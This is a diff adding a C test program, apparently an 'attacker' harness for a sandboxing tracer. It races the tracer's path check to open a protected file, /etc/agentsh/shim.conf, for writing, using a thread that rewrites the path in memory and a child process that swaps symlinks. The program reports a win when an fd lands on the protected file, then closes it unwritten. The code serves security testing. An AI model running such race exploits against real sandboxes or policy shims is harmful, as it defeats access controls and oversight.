@@ -1,0 +1,132 @@
+/* The files family's attacker: tries to open a protected file for writing
+ * (TARGET, e.g. /etc/agentsh/shim.conf) by racing the tracer's check.
+ *
+ *   filerace thread TARGET DIR SECONDS
+ *       one thread opens a path O_WRONLY in a loop while another rewrites
+ *       the path's bytes between DIR/ok and TARGET;
+ *   filerace swap TARGET DIR SECONDS
+ *       a child process swaps DIR/x between a plain file and a symlink to
+ *       TARGET (symlink + rename over it, a file + rename over it) while the
+ *       parent opens DIR/x O_WRONLY in a loop.
+ *
+ * Every fd opened is fstat'ed: one on TARGET's inode is a win, printed as
+ * "WON <how>" (and closed unwritten). At the end: "opened N refused M". */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <signal.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static char path[4096];
+static char ok_path[4096];
+static const char *target;
+static atomic_int stop;
+static struct stat target_st;
+static long opened, refused, won;
+
+static double now(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+static void check(int fd, const char *how) {
+    struct stat st;
+    if (fd < 0) {
+        refused++;
+        return;
+    }
+    opened++;
+    if (fstat(fd, &st) == 0 && st.st_dev == target_st.st_dev &&
+        st.st_ino == target_st.st_ino) {
+        char link[64], where[4096];
+        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
+        ssize_t n = readlink(link, where, sizeof where - 1);
+        where[n > 0 ? n : 0] = 0;
+        won++;
+        printf("WON %s: %s (dev %lu ino %lu)\n", how, where,
+               (unsigned long)st.st_dev, (unsigned long)st.st_ino);
+        fflush(stdout);
+    }
+    close(fd);
+}
+
+static void *rewriter(void *arg) {
+    (void)arg;
+    size_t n = strlen(target) + 1, m = strlen(ok_path) + 1;
+    while (!atomic_load(&stop)) {
+        memcpy(path, target, n);
+        memcpy(path, ok_path, m);
+    }
+    return NULL;
+}
+
+static int thread_mode(double seconds) {
+    pthread_t t;
+    strcpy(path, ok_path);
+    pthread_create(&t, NULL, rewriter, NULL);
+    double end = now() + seconds;
+    while (now() < end)
+        check(open(path, O_WRONLY | O_APPEND), "thread");
+    atomic_store(&stop, 1);
+    pthread_join(t, NULL);
+    return 0;
+}
+
+static int swap_mode(const char *dir, double seconds) {
+    char x[4096], tmp_link[4096], tmp_file[4096];
+    snprintf(x, sizeof x, "%s/x", dir);
+    snprintf(tmp_link, sizeof tmp_link, "%s/x.link", dir);
+    snprintf(tmp_file, sizeof tmp_file, "%s/x.file", dir);
+    int fd = open(x, O_CREAT | O_WRONLY, 0644);
+    if (fd >= 0)
+        close(fd);
+    pid_t child = fork();
+    if (child == 0) {
+        for (;;) {
+            unlink(tmp_link);
+            if (symlink(target, tmp_link) == 0)
+                rename(tmp_link, x);
+            int f = open(tmp_file, O_CREAT | O_WRONLY, 0644);
+            if (f >= 0) {
+                close(f);
+                rename(tmp_file, x);
+            }
+        }
+    }
+    double end = now() + seconds;
+    while (now() < end)
+        check(open(x, O_WRONLY | O_APPEND), "swap");
+    kill(child, SIGKILL);
+    waitpid(child, NULL, 0);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    if (argc != 5) {
+        fprintf(stderr, "usage: filerace thread|swap TARGET DIR SECONDS\n");
+        return 2;
+    }
+    target = argv[2];
+    if (stat(target, &target_st) != 0) {
+        perror(target);
+        return 2;
+    }
+    snprintf(ok_path, sizeof ok_path, "%s/ok", argv[3]);
+    int fd = open(ok_path, O_CREAT | O_WRONLY, 0644);
+    if (fd >= 0)
+        close(fd);
+    double seconds = atof(argv[4]);
+    int r = strcmp(argv[1], "thread") == 0 ? thread_mode(seconds)
+                                           : swap_mode(argv[3], seconds);
+    printf("opened %ld refused %ld won %ld\n", opened, refused, won);
+    return r;
+}
